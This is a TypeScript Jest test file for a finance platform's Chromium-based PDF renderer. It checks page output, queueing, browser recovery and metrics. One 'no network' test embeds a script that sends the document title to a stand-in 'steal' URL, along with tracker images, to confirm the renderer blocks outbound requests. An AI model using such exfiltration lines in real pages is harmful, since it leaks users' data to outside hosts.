import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { createMetrics } from '@finance/platform';
import { DomainError } from '@finance/platform/errors';
import { parseMetrics } from '@finance/testing';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { z } from 'zod';
import { PdfErrorCode, pdfEnv } from '../src/pdf/browser-pool.js';
import { createPdfRenderer, type PdfRenderer } from '../src/pdf/render-pdf.js';

// The PDF renderer against the real Chromium (/usr/bin/chromium, installed by the bootstrap, or
// CHROMIUM_PATH). The PDFs are read back with pdfjs-dist, as a user's PDF viewer would.

const config = z.object(pdfEnv).parse(process.env);
const renderers: PdfRenderer[] = [];

function renderer(overrides: { PDF_MAX_CONCURRENT?: number; PDF_MAX_QUEUE?: number } = {}): PdfRenderer {
  const created = createPdfRenderer({ ...config, ...overrides });
  renderers.push(created);
  return created;
}

afterAll(async () => {
  // A browser left open keeps jest from exiting (TOOLCHAIN.md, trap 4).
  await Promise.all(renderers.map((r) => r.close()));
});

async function pdfText(pdf: Buffer): Promise<string> {
  const doc = await getDocument({ data: new Uint8Array(pdf), useSystemFonts: false }).promise;
  try {
    const parts: string[] = [];
    for (let n = 1; n <= doc.numPages; n++) {
      const content = await (await doc.getPage(n)).getTextContent();
      for (const item of content.items) if ('str' in item) parts.push(item.str);
    }
    return parts.join(' ');
  } finally {
    await doc.destroy();
  }
}

const page = (title: string, body = '') => `<!doctype html>
<html><head><meta charset="utf-8"><title>${title}</title>
<style>body { font-family: sans-serif; background: #eef; } h1 { color: #224; }</style></head>
<body><h1>${title}</h1>${body}</body></html>`;

const A4_POINTS = { width: 595.92, height: 841.92 };

describe('renderPdf', () => {
  let shared: PdfRenderer;
  beforeAll(() => {
    shared = renderer();
  });

  test('an HTML page with a title, a number and an inline SVG → an A4 PDF whose text holds them', async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="320" height="100" viewBox="0 0 320 100">
      <rect x="10" y="10" width="120" height="30" fill="#c33"/><rect x="10" y="50" width="60" height="30" fill="#3c3"/>
      <text x="140" y="30">Groceries</text></svg>`;
    const pdf = await shared.renderPdf(page('Monthly report December 2026', `<p>Income: <strong>4,321.09 EUR</strong></p>${svg}`));

    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    const text = await pdfText(pdf);
    expect(text).toContain('Monthly report December 2026');
    expect(text).toContain('4,321.09 EUR');
    // The SVG's own text is in the PDF too: the chart was drawn, not dropped.
    expect(text).toContain('Groceries');

    const doc = await getDocument({ data: new Uint8Array(pdf) }).promise;
    const [, , width, height] = (await doc.getPage(1)).view;
    await doc.destroy();
    expect(width).toBeCloseTo(A4_POINTS.width, 0);
    expect(height).toBeCloseTo(A4_POINTS.height, 0);
  });

  test('5 renders at once with 2 pages at a time: 2 render, 3 wait, all succeed', async () => {
    const concurrent = renderer({ PDF_MAX_CONCURRENT: 2, PDF_MAX_QUEUE: 8 });
    const renders = [1, 2, 3, 4, 5].map((n) => concurrent.renderPdf(page(`Report number ${n}`)));
    expect(concurrent.pool.load()).toEqual({ active: 2, queued: 3 });

    const pdfs = await Promise.all(renders);
    const texts = await Promise.all(pdfs.map(pdfText));
    texts.forEach((text, i) => expect(text).toContain(`Report number ${i + 1}`));
    expect(concurrent.pool.load()).toEqual({ active: 0, queued: 0 });
  });

  test('a full queue answers REPORTING_PDF_BUSY (503 with a Retry-After hint) at once; the admitted renders succeed', async () => {
    const small = renderer({ PDF_MAX_CONCURRENT: 1, PDF_MAX_QUEUE: 1 });
    const first = small.renderPdf(page('First'));
    const second = small.renderPdf(page('Second'));
    const started = performance.now();
    const refused = await small.renderPdf(page('Third')).then(
      () => undefined,
      (err: unknown) => err,
    );

    expect(refused).toBeInstanceOf(DomainError);
    // kind `unavailable` is 503 at the gateway (resource_exhausted would be 429, a client's own excess).
    expect(refused).toMatchObject({ kind: 'unavailable', code: PdfErrorCode.busy });
    const retryAfter = (refused as DomainError).retryAfterSeconds;
    expect(Number.isInteger(retryAfter)).toBe(true);
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(performance.now() - started).toBeLessThan(100);

    expect(await pdfText(await first)).toContain('First');
    expect(await pdfText(await second)).toContain('Second');
    // The queue drained: a new request is admitted again.
    expect(await pdfText(await small.renderPdf(page('Fourth')))).toContain('Fourth');
  });

  test('a page that printed cleanly is reused by the next render: no page opened, only the new document printed', async () => {
    const own = renderer({ PDF_MAX_CONCURRENT: 1 });
    expect(await pdfText(await own.renderPdf(page('First document')))).toContain('First document');
    const browser = own.pool.currentBrowser()!;
    let opened = 0;
    const count = () => opened++;
    browser.on('targetcreated', count);
    try {
      const text = await pdfText(await own.renderPdf(page('Second document')));
      expect(text).toContain('Second document');
      expect(text).not.toContain('First document');
    } finally {
      browser.off('targetcreated', count);
    }
    expect(opened).toBe(0);
  });

  test('a killed browser is relaunched by the next render', async () => {
    const own = renderer();
    await own.renderPdf(page('Before the crash'));
    const killed = own.pool.currentBrowser();
    const pid = killed?.process()?.pid;
    expect(pid).toBeDefined();

    killed!.process()!.kill('SIGKILL');
    const pdf = await own.renderPdf(page('After the crash'));

    expect(await pdfText(pdf)).toContain('After the crash');
    const relaunched = own.pool.currentBrowser();
    expect(relaunched?.process()?.pid).toBeDefined();
    expect(relaunched?.process()?.pid).not.toBe(pid);
    expect(killed!.connected).toBe(false);
  });

  describe('no network', () => {
    // A host that accepts connections and never answers: a page waiting on it would never finish loading.
    let server: Server;
    let hits: string[];
    let origin: string;
    beforeAll(async () => {
      hits = [];
      server = createServer((req) => {
        hits.push(req.url ?? '');
      });
      server.listen(0, '127.0.0.1');
      await once(server, 'listening');
      origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    afterAll(async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    });

    test('a page that fetches http://example.com and a hanging local host renders at once, and nothing reaches either', async () => {
      const body = `
        <p>Offline total 17.50</p>
        <img src="http://example.com/logo.png" alt="">
        <img src="${origin}/tracker.png" alt="">
        <link rel="stylesheet" href="${origin}/style.css">
        <iframe src="${origin}/frame"></iframe>
        <script>fetch('http://example.com/steal?d=' + document.title); fetch('${origin}/script');</script>
        <img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='4' height='4'/>" alt="inline">`;
      const started = performance.now();
      const pdf = await shared.renderPdf(page('Offline', body));

      expect(await pdfText(pdf)).toContain('Offline total 17.50');
      // Well under the 15 s a page may hold its slot: nothing was waited for.
      expect(performance.now() - started).toBeLessThan(5000);
      expect(hits).toEqual([]);
    });
  });
});

describe('PDF metrics', () => {
  test('queue depth and active renders while renders wait, then one render time per render', async () => {
    const registry = createMetrics({ defaultMetrics: false });
    const metered = createPdfRenderer({ ...config, PDF_MAX_CONCURRENT: 1, PDF_MAX_QUEUE: 4 }, undefined, registry);
    renderers.push(metered);
    const scrape = async () => parseMetrics(await registry.metrics());

    const renders = [1, 2, 3].map((n) => metered.renderPdf(page(`Metered ${n}`)));
    const during = await scrape();
    expect(during.value('finance_pdf_renders_active')).toBe(1);
    expect(during.value('finance_pdf_queue_depth')).toBe(2);
    await Promise.all(renders);

    const after = await scrape();
    expect(after.value('finance_pdf_renders_active')).toBe(0);
    expect(after.value('finance_pdf_queue_depth')).toBe(0);
    expect(after.value('finance_pdf_render_seconds_count', { outcome: 'ok' })).toBe(3);
    expect(after.value('finance_pdf_render_seconds_count', { outcome: 'failed' })).toBe(0);
    expect(after.value('finance_pdf_render_seconds_sum', { outcome: 'ok' })).toBeGreaterThan(0);
  });
});
